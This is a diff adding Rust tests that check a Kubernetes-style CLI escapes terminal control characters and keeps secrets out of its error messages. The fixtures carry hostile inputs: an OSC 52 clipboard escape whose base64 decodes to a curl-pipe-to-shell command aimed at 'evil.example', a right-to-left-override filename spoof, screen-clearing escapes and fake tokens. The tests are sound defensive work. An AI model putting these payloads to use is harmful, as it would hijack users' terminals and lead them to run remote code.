@@ -196,3 +196,190 @@ fn flags_go_before_or_after_the_kind() {
         })
     );
 }
+
+/// Characters no printed field may carry raw: C0 (but the newline), DEL,
+/// C1 and bidi controls.
+fn raw_controls(text: &str) -> Vec<char> {
+    text.chars()
+        .filter(|c| {
+            (c.is_control() && *c != '\n')
+                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{61c}')
+        })
+        .collect()
+}
+
+const OSC52: &str = "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}";
+
+fn evil_channel(name: &str) -> Value {
+    json!({
+        "apiVersion": "interactions.dev/v1alpha1", "kind": "DeploymentChannel",
+        "metadata": {"name": name, "namespace": "team-a", "uid": "u1"},
+        "spec": {
+            "deploymentType": "WEB",
+            "channelName": format!("chat\u{202e}gnp.exe"),
+            "channelIdentifier": format!("https://example.com/{OSC52}"),
+            "configuration": {"communicationType": "UNIFIED"}
+        },
+        "status": {"conditions": [{
+            "type": "Ready", "status": "False", "reason": "Invalid\u{9b}2J",
+            "message": format!("bad \u{1b}[2J\u{1b}[H{OSC52} \u{2066}x\u{2069}"),
+            "lastTransitionTime": "2026-01-01T00:00:00Z"
+        }]}
+    })
+}
+
+#[tokio::test]
+async fn escape_sequences_in_objects_never_reach_the_terminal() {
+    let list = |items: Vec<Value>, kind: &str| {
+        json!({"apiVersion": "interactions.dev/v1alpha1", "kind": kind, "metadata": {}, "items": items})
+    };
+    let pc = json!({
+        "apiVersion": "interactions.dev/v1alpha1", "kind": "PhoneConfiguration",
+        "metadata": {"name": "p", "namespace": "team-a"},
+        "spec": {"phoneNumber": "+12125551234", "provider": format!("twilio{OSC52}"), "capabilities": ["VOICE"]},
+        "status": {"conditions": [{"type": "Ready", "status": "False", "reason": "X", "message": format!("m{OSC52}\u{85}"), "lastTransitionTime": "2026-01-01T00:00:00Z"}]}
+    });
+    let out = run_against(
+        "-n team-a",
+        vec![
+            (
+                "GET /apis/interactions.dev/v1alpha1/namespaces/team-a/deploymentchannels",
+                200,
+                list(vec![evil_channel("web")], "DeploymentChannelList"),
+            ),
+            (
+                "GET /apis/interactions.dev/v1alpha1/namespaces/team-a/phoneconfigurations",
+                200,
+                list(vec![pc.clone()], "PhoneConfigurationList"),
+            ),
+        ],
+    )
+    .await
+    .unwrap();
+    assert_eq!(raw_controls(&out), Vec::<char>::new(), "{out}");
+    assert!(out.contains("\\u{1b}"), "{out}");
+
+    let event = json!({
+        "apiVersion": "v1", "kind": "Event",
+        "metadata": {"name": "e", "namespace": "team-a"},
+        "involvedObject": {"kind": "DeploymentChannel", "name": "web", "namespace": "team-a", "uid": "u1"},
+        "reason": format!("R{OSC52}"), "message": format!("event {OSC52}\u{202e}"), "type": "Warning", "count": 1,
+        "lastTimestamp": "2026-01-01T00:00:00Z"
+    });
+    for output in ["", " -o json"] {
+        let out = run_against(
+            &format!("channel web -n team-a{output}"),
+            vec![
+                (
+                    "GET /apis/interactions.dev/v1alpha1/namespaces/team-a/deploymentchannels/web",
+                    200,
+                    evil_channel("web"),
+                ),
+                (
+                    "GET /apis/interactions.dev/v1alpha1/namespaces/team-a/deploymentchannels",
+                    200,
+                    list(vec![evil_channel("web")], "DeploymentChannelList"),
+                ),
+                (
+                    "GET /api/v1/namespaces/team-a/events",
+                    200,
+                    json!({"apiVersion": "v1", "kind": "EventList", "metadata": {}, "items": [event.clone()]}),
+                ),
+            ],
+        )
+        .await
+        .unwrap();
+        let shown = if output.is_empty() {
+            out.clone()
+        } else {
+            printable::json_safe(&out)
+        };
+        assert_eq!(raw_controls(&shown), Vec::<char>::new(), "{out}");
+        assert_eq!(raw_controls(&out), Vec::<char>::new(), "{out}");
+    }
+}
+
+#[tokio::test]
+async fn a_broken_kubeconfig_is_named_by_file_and_position_only() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("config");
+    std::fs::write(
+        &path,
+        "apiVersion: v1
+kind: Config
+users:
+- name: u
+  user:
+    token: sha256~SECRETTOKEN123
+    client-key-data: LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0tCk1JSUV2U0VDUkVU
+  : [broken
+current-context: c
+",
+    )
+    .unwrap();
+    let error = run(
+        &args(&format!("--kubeconfig {}", path.display())),
+        &mut Vec::new(),
+        Palette::plain(),
+    )
+    .await
+    .unwrap_err()
+    .to_string();
+    for secret in ["SECRETTOKEN", "LS0tLS1", "client-key", "token"] {
+        assert!(!error.contains(secret), "{secret} in {error}");
+    }
+    assert!(error.starts_with(&format!("cannot parse kubeconfig {}: a YAML error at line ", path.display())), "{error}");
+}
+
+#[cfg(unix)]
+#[tokio::test]
+async fn a_failing_credential_plugin_is_named_by_command_and_status_only() {
+    let dir = tempfile::tempdir().unwrap();
+    let plugin = dir.path().join("cred-plugin");
+    std::fs::write(&plugin, "#!/bin/sh\necho \"stdout-secret $PLUGIN_SECRET\"\necho stderr-secret >&2\nexit 3\n").unwrap();
+    {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(&plugin, std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+    let path = dir.path().join("config");
+    std::fs::write(
+        &path,
+        format!(
+            "apiVersion: v1
+kind: Config
+clusters:
+- name: c
+  cluster: {{server: 'https://127.0.0.1:1'}}
+contexts:
+- name: c
+  context: {{cluster: c, user: u, namespace: team-a}}
+current-context: c
+users:
+- name: u
+  user:
+    exec:
+      apiVersion: client.authentication.k8s.io/v1
+      command: {}
+      interactiveMode: Never
+      env:
+      - name: PLUGIN_SECRET
+        value: ENVSECRETVALUE
+",
+            plugin.display()
+        ),
+    )
+    .unwrap();
+    let error = run(
+        &args(&format!("--kubeconfig {} channel web", path.display())),
+        &mut Vec::new(),
+        Palette::plain(),
+    )
+    .await
+    .unwrap_err()
+    .to_string();
+    for secret in ["ENVSECRETVALUE", "stdout-secret", "stderr-secret", "PLUGIN_SECRET"] {
+        assert!(!error.contains(secret), "{secret} in {error}");
+    }
+    assert!(error.contains("failed with exit status 3"), "{error}");
+    assert!(error.contains("cred-plugin"), "{error}");
+}
